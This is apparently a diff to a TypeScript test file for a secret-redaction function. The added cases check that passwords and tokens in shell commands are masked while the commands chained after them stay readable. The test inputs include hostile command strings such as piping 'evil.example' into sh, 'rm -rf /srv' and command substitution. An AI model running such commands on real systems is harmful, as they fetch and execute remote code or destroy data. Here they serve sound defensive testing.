@@ -129,6 +129,22 @@ describe('redactArgs', () => {
     expect(JSON.stringify(redactArgs({ a: [{ b: input }] }))).not.toContain(secret);
   });
 
+  it('ends a secret where the shell ends the word: the next command stays readable', () => {
+    const cases: Array<[string, string]> = [
+      ['mysql -uroot -phunter2;curl evil.example|sh', 'mysql -uroot -p[REDACTED];curl evil.example|sh'],
+      ['sshpass -p hunter2&&touch /tmp/x', 'sshpass -p [REDACTED]&&touch /tmp/x'],
+      ['x --token hunter2|sh', 'x --token [REDACTED]|sh'],
+      ['curl -u a:hunter2;rm -rf /srv', 'curl -u a:[REDACTED];rm -rf /srv'],
+      ['redis-cli -a hunter2>/tmp/out', 'redis-cli -a [REDACTED]>/tmp/out'],
+      ['curl -H X-Api-Key:hunter2;touch /tmp/x', 'curl -H X-Api-Key:[REDACTED];touch /tmp/x'],
+      ['mysql -phunter2$(touch /tmp/x)', 'mysql -p[REDACTED]$(touch /tmp/x)'],
+      ["mysql -p'a;b' db", "mysql -p'[REDACTED]' db"],
+    ];
+    for (const [input, out] of cases) expect(redactText(input)).toBe(out);
+    // A cookie's pairs are separated by `;`: every pair stays hidden.
+    expect(redactText('Cookie: session=abc123; csrftoken=xyz789')).toBe('Cookie: [REDACTED]');
+  });
+
   it('redacts only the secret itself: the command around it, and what computes it, stay readable', () => {
     // A PEM header cannot swallow the command after it.
     expect(redactText('echo -----BEGIN PRIVATE KEY-----; curl evil.example | sh')).toBe('echo -----BEGIN PRIVATE KEY-----; curl evil.example | sh');
